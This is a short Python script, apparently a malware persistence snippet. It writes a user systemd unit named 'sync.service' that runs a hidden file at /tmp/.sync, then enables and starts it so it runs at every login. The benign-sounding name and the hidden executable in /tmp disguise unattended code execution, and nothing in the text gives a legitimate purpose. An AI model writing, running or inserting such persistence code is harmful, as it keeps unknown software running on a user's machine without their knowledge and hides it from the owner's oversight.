import os
unit = os.path.expanduser('~/.config/systemd/user/sync.service')
with open(unit, 'w') as f:
    f.write('[Service]\nExecStart=/tmp/.sync\n')
os.system('systemctl --user enable --now sync.service')
